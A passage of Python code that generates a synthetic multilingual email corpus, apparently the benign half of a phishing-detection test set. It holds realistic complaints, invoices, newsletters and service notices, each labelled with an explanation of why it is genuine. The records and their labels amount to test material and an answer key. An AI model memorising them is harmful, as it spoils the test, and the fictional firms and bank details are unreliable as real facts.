M(infra=m365(f, "brenner-lacke.de", "Reklamation Charge 2611-0447 Acrylat-Dispersion", n=2044),
  file=f, half="business", lang="de", cs="UTF-8 / QP, multipart/mixed + PDF",
  desc="Coatings customer Brenner Lacke (QA) files a complaint: viscosity out of spec and specks in an acrylic dispersion batch",
  why="Genuine customer complaint from the real customer tenant, specific batch/delivery data, test report PDF, no links, no payment content",
  frm=("Lorenz, Ines Dr.", "i.lorenz@brenner-lacke.de"), to=[("Neumann, Frank", "frank.neumann@example.com")],
  cc=[S["julia"], ("Sommer, Uwe", "u.sommer@brenner-lacke.de")],
  subject="Reklamation Charge 2611-0447 Acrylat-Dispersion", date=dt("2026-11-10 13:52:48"),
  body=mixed([alt("""Sehr geehrter Herr Neumann,

bei der Wareneingangsprüfung der Lieferung vom 06.11.2026 (Lieferschein 80043977, 4 IBC Acrylat-Dispersion AD 45, Charge 2611-0447) haben wir Abweichungen festgestellt:

- Viskosität (Brookfield, Sp. 3, 20 U/min, 23 °C): 3.850 mPa·s, Spezifikation 1.500-3.000 mPa·s
- Stippen im Filtertest (50 µm), in allen vier IBC
- pH-Wert und Festkörper in Ordnung

Die Charge ist bei uns gesperrt. Den Prüfbericht hängen wir an. Bitte lassen Sie uns bis Donnerstag eine Stellungnahme Ihres Labors bzw. des Herstellers zukommen und teilen Sie uns mit, ob Sie die Ware zurücknehmen oder eine Ersatzlieferung aus einer anderen Charge möglich ist. Unsere Produktion braucht die Dispersion spätestens am 18.11.

Mit freundlichen Grüßen

Dr. Ines Lorenz
Leitung Qualitätssicherung
Brenner Lacke GmbH & Co. KG | Heilbronner Str. 211 | 70191 Stuttgart""", seed=f),
      attach("Pruefbericht_QS-2026-311.pdf", pdf_placeholder("Brenner Lacke - Prüfbericht QS-2026-311", ["Charge 2611-0447: Viskosität 3.850 mPa s"]), "application/pdf")], f))

f = "08-de-internal-it-mfa-announcement"
M(infra=exch_internal(f, "Umstellung der Anmeldung auf Microsoft Authenticator ab 1. Dezember", client="10.20.14.88"),
  file=f, half="business", lang="de", cs="ISO-8859-15 / QP, multipart/alternative",
  desc="Internal IT announcement: switch of M365 sign-in to Authenticator with number matching, with an aka.ms setup link and explicit anti-phishing advice",
  why="Genuine internal announcement via mail-int01, link to Microsoft's real aka.ms/mfasetup, no credentials requested by mail; looks like a phishing theme but is the real IT department",
  frm=("Weber, Markus", "markus.weber@example.com"), to=[("Alle Mitarbeitenden DE", "alle-de@example.com")], rcpt="andreas.richter@example.com",
  subject="Umstellung der Anmeldung auf Microsoft Authenticator ab 1. Dezember", date=dt("2026-11-16 15:05:00"), hcs="iso-8859-15",
  body=alt("""Liebe Kolleginnen und Kollegen,

ab dem 1. Dezember 2026 stellen wir die Anmeldung an Microsoft 365 (Outlook, Teams, SharePoint) vollständig auf die App Microsoft Authenticator mit Nummernabgleich um. SMS-Codes werden dann nicht mehr akzeptiert.

Was ist zu tun?
1. Microsoft Authenticator aus dem App Store bzw. Google Play installieren.
2. Am Firmen-PC https://aka.ms/mfasetup öffnen und "Anmeldemethode hinzufügen" wählen.
3. Den angezeigten QR-Code mit der App scannen.

Wer Hilfe braucht: Lena Krüger und ich bieten am 24. und 26.11. jeweils 10-12 Uhr eine offene Sprechstunde im Raum Neckar an.

Wichtig: Die IT wird Sie niemals per E-Mail, Teams oder Telefon nach einem Code fragen oder bitten, einen Code auf einer Seite wie microsoft.com/devicelogin einzugeben. Verdächtige Nachrichten bitte über den Button "Phishing melden" in Outlook melden.

Viele Grüße
Markus Weber
Leitung IT | Example Group GmbH""", "iso-8859-15", "quoted-printable", seed=f))

# =================================================================== BUSINESS: English
f = "09-en-docusign-genuine-envelope"
_t = """Rachel Hughes sent you a document to review and sign.

REVIEW DOCUMENT
https://eu.docusign.net/Signing/EmailStart.aspx?a=5f2c81e4-3b7a-4d0e-9a61-0c77d2e9b4a3&etti=24&acct=8d41f0c2-71a9-4b3e-a2f6-93e1c7d05b18&er=2b7e1c94-58d0-4f33-b6a1-e04c9f2d7a65

Rachel Hughes
rachel.hughes@ashworthskincare.co.uk

Hi Francesca, here is the final version of the 2027 supply agreement with the changes from our call on Tuesday (clause 7.2 price review, clause 11 REACH/UK REACH documentation). Thanks, Rachel

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
5F2C81E43B7A4D0E9A610C77D2E9B4A33

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding."""
M(infra=dict(helo="mailfra.docusign.net", rdns="mailfra.docusign.net", ip="185.187.67.122", inner=[],
             msgid="<%s@docusign.net>" % h(f, 32), return_path="bounces@docusign.net",
             headers=[("X-Api-Host", "docusign.net")]),
  file=f, half="business", lang="en", cs="UTF-8 / QP, multipart/alternative",
  desc="Genuine DocuSign envelope from the UK cosmetics customer for the 2027 supply agreement",
  why="Genuine: sent by docusign.net infrastructure, links only to eu.docusign.net, Reply-To is the customer's real address, content matches the ongoing negotiation",
  frm=("Rachel Hughes via Docusign", "dse@eumail.docusign.net"), to=[S["francesca"]], reply_to=("Rachel Hughes", "rachel.hughes@ashworthskincare.co.uk"),
  subject="Complete with Docusign: Ashworth_Supply_Agreement_2027_final.pdf", date=dt("2026-12-03 15:44:12", "GMT"),
  body=alt(_t, seed=f))

f = "10-en-zoom-password-reset"
M(infra=dict(helo="o1.ptr3071.zoom.us", rdns="o1.ptr3071.zoom.us", ip="149.72.154.87", inner=[],
             return_path="bounces+3071458-9a2c-james.whitfield=example.com@em.zoom.us",
             msgid="<%s@geopod-ismtpd-17>" % h(f, 22, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")),
  file=f, half="business", lang="en", cs="UTF-8 / QP, multipart/alternative",
  desc="Zoom password-reset link the UK sales manager requested",
  why="Genuine password reset: user-initiated, link only to zoom.us, short expiry, 'ignore if you did not request', sent via Zoom's SendGrid-based infrastructure",
  frm=("Zoom", "no-reply@zoom.us"), to=[S["james"]],
  subject="Reset your Zoom password", date=dt("2026-11-04 08:41:55", "GMT"),
  body=alt("""Hello James,

We received a request to reset the password for your Zoom account (james.whitfield@example.com).

Reset password:
https://us06web.zoom.us/reset_password?token=%s

This link will expire in 30 minutes. If you did not request a password reset, you can safely ignore this email; your password will not be changed.

Thank you,
The Zoom Team

Zoom Communications, Inc., 55 Almaden Blvd, Suite 600, San Jose, CA 95113""" % h(f + "tok", 43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"), seed=f))

f = "11-en-companies-house-genuine-idv-reminder"
M(infra=ses(f, "eu-west-2", n=201),
  file=f, half="business", lang="en", cs="UTF-8 / QP, multipart/alternative",
  desc="Genuine Companies House (GOV.UK Notify) reminder that the director must verify identity before the next confirmation statement",
  why="Genuine but hard: GOV.UK Notify sender on notifications.service.gov.uk, links only to www.gov.uk, no login link in the mail, matches the real ECCTA rollout (contrast attack 09)",
  frm=("Companies House", "companies.house@notifications.service.gov.uk"), to=[S["james"]],
  subject="Verify your identity for Companies House", date=dt("2026-11-05 10:02:41", "GMT"),
  body=alt("""Dear James Whitfield,

You are a director of EXAMPLE GROUP UK LIMITED (09876543).

You need to verify your identity for Companies House. You must do this by the time the company files its next confirmation statement.

Find out how to verify your identity on GOV.UK:
https://www.gov.uk/guidance/verifying-your-identity-for-companies-house

Once you have verified, you will get a personal code. You will need to give this code to Companies House to link your verified identity to your role as a director.

Do not reply to this email. If you need help, contact Companies House:
https://www.gov.uk/contact-companies-house

Companies House""", seed=f))

f = "12-en-customer-complaint-ashworth"
M(infra=m365(f, "ashworthskincare.co.uk", "Phenoxyethanol delivery 11/11 - missing CoA, SDS not GB format", "en-GB", n=1912),
  file=f, half="business", lang="en", cs="UTF-8 / QP, multipart/alternative",
  desc="UK cosmetics customer complains: delivery released without CoA and with an EU-format SDS lacking UK REACH/GB CLP details; production on hold",
  why="Genuine complaint from the customer's own tenant, precise batch/PO references, cc to the product manager, no links or payment content",
  frm=("Rachel Hughes", "rachel.hughes@ashworthskincare.co.uk"), to=[S["james"]], cc=[S["francesca"]],
  subject="Phenoxyethanol delivery 11/11 - missing CoA, SDS not GB format", date=dt("2026-11-16 11:27:36", "GMT"),
  body=alt("""Hi James,

I'm afraid we have a problem with Monday's delivery (PO 7700-4418, 2 x 200 kg drums phenoxyethanol, batch PE-2610-88).

1. No certificate of analysis came with the goods or by email, so QC cannot release the drums.
2. The SDS we received is the EU version (German supplier address, EU CLP). For our site we need the GB version with a UK address and the UK REACH registration/DUIN details in section 1 and 15.
3. The label on one drum is partly torn.

Our filling line for the body lotion is on hold until QC can release, so I would be grateful for the CoA today if at all possible and the GB SDS this week. Francesca, I've copied you in case this sits with your team.

Many thanks,
Rachel

Rachel Hughes
Procurement Manager
Ashworth Skincare Ltd | Unit 9, Kingsway Business Park, Rochdale OL16 4NQ
+44 1706 358 220""", seed=f))

f = "13-en-echa-weekly-newsletter"
_h = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>ECHA Weekly</title></head><body style="font-family:Verdana,Arial,sans-serif;font-size:13px;color:#333">
<table width="640" align="center"><tr><td style="border-bottom:3px solid #003f87;padding:10px 0"><b style="font-size:20px;color:#003f87">ECHA Weekly</b> &nbsp; 18 November 2026</td></tr>
<tr><td style="padding:12px 0"><h3 style="color:#003f87">Consultation on harmonised classification and labelling</h3>
<p>ECHA is looking for comments on proposals to harmonise the classification and labelling of three substances. The consultation runs until 15 January 2027.</p>
<h3 style="color:#003f87">CLP: new hazard classes - updated guidance published</h3>
<p>Updated guidance on the application of the CLP criteria for endocrine disruption and PBT/vPvB/PMT/vPvM hazard classes is now available.</p>
<h3 style="color:#003f87">REACH-IT maintenance</h3>
<p>REACH-IT will be unavailable on 28 November 2026 from 08:00 to 14:00 (Helsinki time) due to a scheduled release.</p>
<p><a href="https://echa.europa.eu/news-and-events/echa-weekly">Read all news on our website</a></p></td></tr>
<tr><td style="font-size:11px;color:#777;border-top:1px solid #ccc;padding-top:8px">You are receiving ECHA Weekly because you subscribed with petra.vogel@example.com. <a href="https://echa.europa.eu/subscribe">Manage your subscription</a> | European Chemicals Agency, Telakkakatu 6, 00150 Helsinki, Finland</td></tr></table></body></html>"""
M(infra=dict(helo="smtp-out2.echa.europa.eu", rdns="smtp-out2.echa.europa.eu", ip="193.166.35.72", inner=[],
             msgid="<%s@echa.europa.eu>" % h(f, 24), return_path="newsletter-bounces@echa.europa.eu",
             headers=[("List-Unsubscribe", "<https://echa.europa.eu/subscribe?unsubscribe=echa-weekly>"), ("List-Id", "ECHA Weekly <echa-weekly.echa.europa.eu>"), ("Precedence", "bulk")]),
  file=f, half="business", lang="en", cs="UTF-8 / QP, multipart/alternative (newsletter)",
  desc="ECHA Weekly newsletter the regulatory-affairs manager subscribed to",
  why="Genuine subscribed newsletter from echa.europa.eu, links only to echa.europa.eu, List-Unsubscribe present; mentions REACH-IT maintenance without any login request (contrast attack 15)",
  frm=("ECHA Weekly", "echa-weekly@echa.europa.eu"), to=[S["petra"]],
  subject="ECHA Weekly - 18 November 2026", date=dt("2026-11-18 12:00:04", "EET"),
  body=alt("""ECHA Weekly - 18 November 2026

Consultation on harmonised classification and labelling
ECHA is looking for comments on proposals to harmonise the classification and labelling of three substances. The consultation runs until 15 January 2027.

CLP: new hazard classes - updated guidance published
Updated guidance on the application of the CLP criteria for endocrine disruption and PBT/vPvB/PMT/vPvM hazard classes is now available.

REACH-IT maintenance
REACH-IT will be unavailable on 28 November 2026 from 08:00 to 14:00 (Helsinki time) due to a scheduled release.

Read all news: https://echa.europa.eu/news-and-events/echa-weekly
Manage your subscription: https://echa.europa.eu/subscribe""", html=_h, seed=f))

f = "14-en-northway-invoice"
M(infra=m365(f, "northwaytankers.co.uk", "Invoice NTL-26-08812", "en-GB", n=1877),
  file=f, half="business", lang="en", cs="UTF-8 / QP + PDF",
  desc="UK ADR tanker haulier Northway Tankers sends its monthly invoice with PDF",
  why="Genuine invoice from the haulier's tenant (before its mailbox compromise in attack 13), known bank details, PDF only, references real jobs",
  frm=("Northway Tankers Accounts", "accounts@northwaytankers.co.uk"), to=[S["emma"]],
  subject="Invoice NTL-26-08812 - October tanker movements", date=dt("2026-11-04 09:12:27", "GMT"),
  body=mixed([text("""Dear Emma,

Please find attached invoice NTL-26-08812 for October tanker movements
(14 loads, Runcorn / Stanlow / Grangemouth, incl. tank cleaning
certificates).

Amount due: GBP 21,846.00 (incl. VAT)
Due date: 4 December 2026

Bank: NatWest, sort code 01-07-12, account 41562290
IBAN: %s

Kind regards,
Accounts Team
Northway Tankers Ltd | Unit 4, Gorsey Lane, Widnes WA8 0RP""" % fmt_iban(ACC["northway"]), "plain", "utf-8", "quoted-printable"),
      attach("NTL-26-08812.pdf", pdf_placeholder("Northway Tankers - Invoice NTL-26-08812", ["GBP 21,846.00"]), "application/pdf")], f))

f = "15-en-customs-broker-urgent-duty"
M(infra=gmail(f, 52),
  file=f, half="business", lang="en", cs="UTF-8 / QP, multipart/alternative",
  desc="Customs broker (Google Workspace) asks for same-day payment of duty/VAT because the deferment guarantee is exhausted, to release an ISO tank at Felixstowe",
  why="Genuine urgent payment request: long-standing broker on its own domain, paid to the usual client account, offers postponed VAT accounting as alternative, asks to call her, no bank change",
  frm=("Sophie Grant", "sophie.grant@penninecustoms.co.uk"), to=[S["emma"]], cc=[S["james"]],
  subject="URGENT: ISO tank EXGU 204417-3 at Felixstowe - duty payment needed today", date=dt("2026-11-25 10:36:18", "GMT"),
  body=alt("""Hi Emma,

The November duty deferment guarantee on your account has been used up by the two earlier entries this month, so the import entry for ISO tank EXGU 204417-3 (MEK, 19.8 t) is waiting for payment before HMRC will release it.

Amount: GBP 14,382.16 (duty GBP 2,141.60 + import VAT GBP 12,240.56)

Please pay to our client account as usual (Barclays, sort code 20-44-73, account 53846671, ref. EXG-2611-17). Alternatively, if you confirm we may use postponed VAT accounting on this entry, only the duty of GBP 2,141.60 needs to be paid today.

If it's paid before 2pm the haulier can still collect today; otherwise storage and demurrage start tomorrow. Give me a ring on my usual number if easier.

Best,
Sophie

Sophie Grant
Senior Customs Declarant
Pennine Customs Services Ltd | Felixstowe & Manchester""", seed=f))

f = "16-en-teams-invite-producer"
_ics = """BEGIN:VCALENDAR
METHOD:REQUEST
PRODID:Microsoft Exchange Server 2010
VERSION:2.0
BEGIN:VEVENT
ORGANIZER;CN=Pieter de Vries:mailto:p.devries@vdbpolymers.nl
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Andreas Richter:mailto:andreas.richter@example.com
DESCRIPTION;LANGUAGE=en-US:Agenda: 2027 allocation\\, PP copolymer grades\\, price formula.\\n\\nJoin the meeting now: https://teams.microsoft.com/l/meetup-join/19%%3ameeting_NzQ4ZjE0OWMtYjI3Ny00ZDk1LWI5ZjMtNTc0YzE2M2E5ZTQx%%40thread.v2/0\\nMeeting ID: 381 774 902 615 5\\nPasscode: xQ7gB9mR
UID:040000008200E00074C5B7101A82E00800000000%s
SUMMARY;LANGUAGE=en-US:Example Group / VDB Polymers - 2027 allocation
DTSTART;TZID=W. Europe Standard Time:20261208T140000
DTEND;TZID=W. Europe Standard Time:20261208T150000
DTSTAMP:20261125T091200Z
LOCATION;LANGUAGE=en-US:Microsoft Teams Meeting
SEQUENCE:0
STATUS:CONFIRMED
END:VEVENT
END:VCALENDAR""" % h(f, 32).upper()
_t = """Hi Andreas,

As discussed, let's go through the 2027 allocation for the PP copolymer grades and the new price formula.

________________________________________________________________________________
Microsoft Teams meeting
Join on your computer, mobile app or room device
Join the meeting now: https://teams.microsoft.com/l/meetup-join/19%3ameeting_NzQ4ZjE0OWMtYjI3Ny00ZDk1LWI5ZjMtNTc0YzE2M2E5ZTQx%40thread.v2/0
Meeting ID: 381 774 902 615 5
Passcode: xQ7gB9mR
________________________________________________________________________________

Best regards,
Pieter de Vries
Sales Director Europe | VDB Polymers B.V. | Geleen, NL"""

_cal = Part([("Content-Type", 'text/calendar; charset="utf-8"; method=REQUEST'), ("Content-Transfer-Encoding", "base64")], wrap_b64(_ics.replace("\n", "\r\n").encode()))
M(infra=m365(f, "vdbpolymers.nl", "Example Group / VDB Polymers - 2027 allocation", "en-US", n=1523),
  file=f, half="business", lang="en", cs="UTF-8 / QP + text/calendar (base64)",
  desc="Producer sends a Microsoft Teams meeting invitation (with iCalendar REQUEST) about the 2027 allocation",
  why="Genuine meeting invitation from the producer's M365 tenant: standard Teams join link on teams.microsoft.com, meeting ID/passcode, no device code or sign-in request (contrast attack 13)",
  frm=("Pieter de Vries", "p.devries@vdbpolymers.nl"), to=[S["andreas"]],
  subject="Example Group / VDB Polymers - 2027 allocation", date=dt("2026-11-25 10:12:00"),
  body=multi("alternative", [text(_t, "plain", "utf-8", "quoted-printable"), text(p2h(_t).replace("charset=%s", "charset=utf-8"), "html", "utf-8", "quoted-printable"), _cal], f + "cal"))

# =================================================================== BUSINESS: Italian
f = "17-it-ferretti-fattura-cortesia"
M(infra=aruba(f, client_ip="151.84.37.201", n=112),
  file=f, half="business", lang="it", cs="ISO-8859-1 / base64 + PDF",
  desc="Ferretti Trasporti administration sends the courtesy copy of invoice 1187/26 (original via SdI)",
  why="Genuine: real domain ferretti-trasporti.it via Aruba from an Italian business line, courtesy copy of an SdI invoice, unchanged Intesa IBAN %s" % ACC["ferr_old"],
  frm=("Ferretti Trasporti - Amministrazione", "amministrazione@ferretti-trasporti.it"), to=[S["marco"]],
  subject="Copia di cortesia fattura n. 1187/26 del 31/10/2026", date=dt("2026-11-05 10:44:02"), hcs="iso-8859-1",
  headers=[("X-Mailer", "Microsoft Outlook 16.0")],
  body=mixed([text("""Buongiorno,

in allegato la copia di cortesia della fattura n. 1187/26 del 31/10/2026
relativa ai trasporti in cisterna ADR del mese di ottobre (11 viaggi
Mannheim - Novara / Novara - Ravenna).

L'originale è stato trasmesso tramite Sistema di Interscambio.

Importo: 27.412,80 EUR (non imponibile art. 9 DPR 633/72)
Scadenza: 60 gg d.f.f.m.
Pagamento: bonifico su Intesa Sanpaolo, IBAN %s

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 24 - 28100 Novara
Tel. 0321 468 210""" % fmt_iban(ACC["ferr_old"]), "plain", "iso-8859-1", "base64"),
      attach("Fattura_1187-26.pdf", pdf_placeholder("Ferretti Trasporti - Fattura 1187/26 (copia di cortesia)", ["27.412,80 EUR"]), "application/pdf")], f))

f = "18-it-ferretti-genuine-iban-change"
M(infra=aruba(f, client_ip="151.84.37.201", n=113),
  file=f, half="business", lang="it", cs="UTF-8 / QP, multipart/mixed + PDF",
  desc="Chiara Colombo (Ferretti) announces the genuine switch to Banco BPM from 1 Jan 2027, signed letter also sent by PEC, asks for phone verification",
  why="Genuine but hard: real domain and usual Aruba relay, change effective only from next year, formal letter via PEC, explicit request to verify by calling the number already on file; new IBAN %s" % ACC["ferr_new"],
  frm=("Chiara Colombo", "c.colombo@ferretti-trasporti.it"), to=[S["marco"]], cc=[S["giulia"], ("Ferretti Trasporti - Amministrazione", "amministrazione@ferretti-trasporti.it")],
  subject="Ferretti Trasporti - nuove coordinate bancarie dal 01/01/2027", date=dt("2026-11-25 15:18:46"),
  headers=[("User-Agent", "Mozilla Thunderbird 140.4.0")],
  body=mixed([alt("""Gentile Marco,

come anticipato a Giulia durante l'incontro della settimana scorsa, dal 1° gennaio 2027 la nostra società centralizzerà i pagamenti su Banco BPM. Le fatture emesse fino al 31/12/2026 vanno pagate come sempre su Intesa Sanpaolo; il vecchio conto resterà comunque attivo fino al 30/06/2027.

Nuove coordinate dal 01/01/2027:
Banco BPM S.p.A. - Filiale di Novara
IBAN: %s

La lettera firmata dal nostro amministratore delegato vi è stata inviata anche via PEC e la trovate in allegato. Visto il numero di truffe in circolazione, vi chiediamo di verificare le coordinate telefonando al nostro ufficio amministrativo al numero che avete in anagrafica (non rispondete a eventuali e-mail che vi chiedono di pagare prima su un conto diverso).

Un cordiale saluto,

Chiara Colombo
Responsabile Commerciale
Ferretti Trasporti S.p.A.
Via dell'Industria 24 - 28100 Novara""" % fmt_iban(ACC["ferr_new"]), seed=f),
      attach("Lettera_variazione_coordinate_2027.pdf", pdf_placeholder("Ferretti Trasporti - Comunicazione nuove coordinate dal 01/01/2027", ["Banco BPM IBAN " + fmt_iban(ACC["ferr_new"])]), "application/pdf")], f))

f = "19-it-customer-complaint-glycerin"
M(infra=gmail(f, 77),
  file=f, half="business", lang="it", cs="ISO-8859-15 / QP",
  desc="Cosmetics customer Cosmetica Lombarda (Google Workspace) complains about odour and colour of a vegetable glycerin batch",
  why="Genuine complaint: customer's own domain, batch/delivery references, technical values, asks for CoA and a retained sample; no links or payment",
  frm=("Elena Ricci", "e.ricci@cosmeticalombarda.it"), to=[S["francesca"]],
  subject="Reclamo lotto GLY-2609-114 - glicerina vegetale", date=dt("2026-11-13 11:06:55"), hcs="iso-8859-15",
  body=text("""Buongiorno Francesca,

ti scrivo per segnalare un problema sul lotto GLY-2609-114 di glicerina
vegetale 99,5% Ph. Eur. (DDT 26/4471 del 09/11, 4 fusti da 250 kg).

Il controllo qualità in ingresso ha rilevato:
- odore anomalo, leggermente acre, non conforme al campione di riferimento;
- colore APHA 30 (specifica max 10).

Il lotto è stato messo in quarantena. Ti chiediamo:
1. il certificato di analisi del produttore per questo lotto;
2. un campione di riferimento del lotto trattenuto presso di voi;
3. una proposta per la sostituzione, perché il materiale ci serve per la
   produzione della crema viso entro il 25/11.

Grazie e buona giornata,
Elena Ricci
Responsabile Qualità Materie Prime
Cosmetica Lombarda S.r.l. - Via Monza 112, 20871 Vimercate (MB)""", "plain", "iso-8859-15", "quoted-printable"))

f = "20-it-federchimica-newsletter"
_h = """<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<table width="620" align="center"><tr><td style="background:#004b87;color:#fff;padding:14px;font-size:19px">Notiziario Federchimica &middot; n. 41/2026</td></tr>
<tr><td style="padding:14px 4px">
<h3>Congiuntura: la produzione chimica in Italia nel terzo trimestre</h3>
<p>Il quadro congiunturale resta debole per la chimica di base, più stabile la chimica fine e specialistica. Pubblicata la nota trimestrale del Centro Studi.</p>
<h3>Regolamento CLP: etichettatura e nuove classi di pericolo</h3>
<p>Webinar per le imprese associate il 10 dicembre 2026 sulle scadenze di adeguamento delle etichette e delle schede di dati di sicurezza.</p>
<h3>Trasporto merci pericolose: ADR 2027</h3>
<p>Disponibile la sintesi delle principali modifiche all'ADR 2027 a cura del gruppo di lavoro logistica.</p>
<p><a href="https://www.federchimica.it/notiziario">Leggi il notiziario completo</a></p></td></tr>
<tr><td style="font-size:11px;color:#777;border-top:1px solid #ccc">Ricevi questa e-mail perché sei iscritto al Notiziario con giulia.romano@example.com. <a href="https://federchimica.us21.list-manage.com/unsubscribe">Annulla iscrizione</a></td></tr></table></body></html>"""
M(infra=mailchimp(f, "federchimica.it", n=214),
  file=f, half="business", lang="it", cs="UTF-8 / QP, HTML-only (newsletter)",
  desc="Industry-association newsletter the Italian country manager subscribed to",
  why="Genuine subscribed newsletter via Mailchimp with List-Unsubscribe, links to the association's own site, no requests",
  frm=("Federchimica", "notiziario@federchimica.it"), to=[S["giulia"]],
  subject="Notiziario Federchimica n. 41/2026 - congiuntura, CLP, ADR 2027", date=dt("2026-11-20 08:30:00"),
  body=text(_h, "html", "utf-8", "quoted-printable"))

f = "21-it-aruba-genuine-pec-renewal"
M(infra=dict(helo="smtpweb117.aruba.it", rdns="smtpweb117.aruba.it", ip="62.149.158.117", inner=[],
             msgid="<%s@staff.aruba.it>" % h(f, 26), return_path="bounce@staff.aruba.it"),
  file=f, half="business", lang="it", cs="UTF-8 / base64, multipart/alternative",
  desc="Genuine Aruba notice that the company's PEC mailbox expires on 14/12/2026 and can be renewed in the customer area (or nothing to do if auto-renew is on)",
  why="Genuine but hard (contrast attack 21): sent by Aruba's own server (aruba.it, 62.149.x), links only to aruba.it, no password request in the mail, states 'nothing to do' with auto-renew",
  frm=("Aruba.it", "comunicazioni@staff.aruba.it"), to=[S["marco"]],
  subject="Rinnovo casella PEC exampleitalia@pec.it - scadenza 14/12/2026", date=dt("2026-11-14 07:02:18"),
  body=alt("""Gentile Cliente,

ti ricordiamo che la casella PEC exampleitalia@pec.it scadrà il 14/12/2026.

Se hai attivato il rinnovo automatico non devi fare nulla: il rinnovo verrà effettuato con il metodo di pagamento registrato.

In caso contrario puoi rinnovare il servizio dall'Area Clienti, accedendo come di consueto da https://www.aruba.it e selezionando "Rinnovi".

Alla scadenza la casella resterà consultabile in sola lettura per 30 giorni.

Cordiali saluti
Aruba S.p.A.
Via San Clemente 53, 24036 Ponte San Pietro (BG)""", "utf-8", "base64", seed=f))

# =================================================================== BUSINESS: Polish
_homepl = lambda f, ua: dict(helo="cloudserver091827.home.pl", rdns="cloudserver091827.home.pl", ip="79.96.170.52",
    inner=["from [192.168.10.23] (unknown [213.77.84.102])\n\tby cloudserver091827.home.pl (Postfix) with ESMTPSA id %s;\n\t{DATE}" % h(f, 12, "0123456789ABCDEF")],
    msgid="<%s@partner-logistik.pl>" % h(f, 30), headers=[ua])
f = "22-pl-partner-logistik-faktura-ksef"
M(infra=_homepl(f, ("X-Mailer", "Comarch ERP Optima 2026.2")),
  file=f, half="business", lang="pl", cs="ISO-8859-2 / base64 + PDF",
  desc="Partner Logistik accounting sends invoice FV/2026/11/0418 with its KSeF number and PDF visualisation",
  why="Genuine: real domain partner-logistik.pl via its home.pl server from a Polish business IP, KSeF number, known ING account %s" % ACC["pl_partner"],
  frm=("Partner Logistik - Księgowość", "ksiegowosc@partner-logistik.pl"), to=[S["piotr"]],
  subject="Faktura FV/2026/11/0418 - Partner Logistik sp. z o.o.", date=dt("2026-11-10 12:04:31"), hcs="iso-8859-2",
  body=mixed([text("""Szanowni Państwo,

w załączeniu przesyłamy wizualizację faktury FV/2026/11/0418 z dnia
10.11.2026 za usługi transportu ADR (październik 2026).

Numer KSeF: %s
Kwota brutto: 27 306,00 zł
Termin płatności: 24.11.2026
Rachunek: ING Bank Śląski S.A. %s

Faktura została wystawiona w Krajowym Systemie e-Faktur i jest dostępna
w KSeF.

Z poważaniem
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Obornicka 235, 60-650 Poznań""" % (ksef_number(nip_pl("781190044"), "20261110", "4A7C1E9B2D30"), fmt_iban(ACC["pl_partner"])), "plain", "iso-8859-2", "base64"),
      attach("FV_2026_11_0418.pdf", pdf_placeholder("Partner Logistik - Faktura FV/2026/11/0418 (wizualizacja KSeF)", ["27 306,00 PLN"]), "application/pdf")], f))

f = "23-pl-partner-logistik-urgent-reminder"
M(infra=_homepl(f, ("User-Agent", "Mozilla Thunderbird 140.4.0")),
  file=f, half="business", lang="pl", cs="windows-1250 / QP",
  desc="Tadeusz Zieliński (Partner Logistik) urgently chases the overdue invoice and warns that the account has NOT changed despite fake mails",
  why="Genuine urgent payment request: real domain and server, account unchanged (same as on the VAT white list), explicitly warns about the look-alike domain (attack 24)",
  frm=("Tadeusz Zieliński", "t.zielinski@partner-logistik.pl"), to=[S["piotr"]], cc=[("Partner Logistik - Księgowość", "ksiegowosc@partner-logistik.pl")],
  subject="Pilne: zaległa płatność FV/2026/11/0418 + uwaga na fałszywe maile", date=dt("2026-11-26 09:33:12"), hcs="windows-1250",
  body=text("""Dzień dobry Panie Piotrze,

nasza księgowość zwróciła uwagę, że faktura FV/2026/11/0418 (27 306,00 zł,
termin 24.11.2026) nie została jeszcze opłacona. Bardzo proszę o pilne
sprawdzenie - mamy koniec miesiąca i rozliczenia z przewoźnikami.

Jednocześnie ważna informacja: w ostatnich dniach kilku naszych klientów
otrzymało fałszywe maile z domeny partner-logistlk.pl (z literą "l" zamiast
"i") z prośbą o zmianę rachunku. Nasz rachunek się NIE zmienił - jest to
nadal ING Bank Śląski, %s, zgodny z białą
listą. Jeśli otrzymał Pan taką wiadomość, proszę jej nie realizować.

W razie pytań proszę dzwonić bezpośrednio do mnie.

Pozdrawiam serdecznie
Tadeusz Zieliński
Kierownik Działu Transportu ADR
Partner Logistik sp. z o.o.
tel. +48 61 842 17 30""" % fmt_iban(ACC["pl_partner"]), "plain", "windows-1250", "quoted-printable"))

f = "24-pl-customer-complaint-citric-acid"
M(infra=m365(f, "sadownik.com.pl", "Reklamacja - kwas cytrynowy, dostawa 18.11", "pl-PL", n=1688),
  file=f, half="business", lang="pl", cs="UTF-8 / QP, multipart/alternative",
  desc="Food-processing customer complains about damaged big-bags of citric acid and missing food-grade documentation",
  why="Genuine customer complaint from its own M365 tenant, specific delivery data, asks for documents and a credit note; no links, no bank data",
  frm=("Marta Lewandowska", "m.lewandowska@sadownik.com.pl"), to=[S["agnieszka"]], cc=[S["katarzyna"]],
  subject="Reklamacja - kwas cytrynowy, dostawa 18.11", date=dt("2026-11-19 14:22:05"),
  body=alt("""Dzień dobry Pani Agnieszko,

w dostawie z dnia 18.11.2026 (WZ 2026/PL/3318, kwas cytrynowy bezwodny E330, 20 big-bagów po 1000 kg, partia CA-2610-207) stwierdziliśmy:

- 2 big-bagi rozdarte przy uchwytach, produkt częściowo wysypany na naczepę (protokół szkody podpisany przez kierowcę w załączeniu do WZ);
- brak certyfikatu analizy oraz deklaracji zgodności do kontaktu z żywnością dla tej partii;
- brak oświadczenia alergenowego w aktualnej wersji.

Bez tych dokumentów nie możemy zwolnić surowca do produkcji. Prosimy o przesłanie dokumentów do piątku oraz o wystawienie korekty za 2 uszkodzone big-bagi.

Z poważaniem
Marta Lewandowska
Kierownik Zaopatrzenia
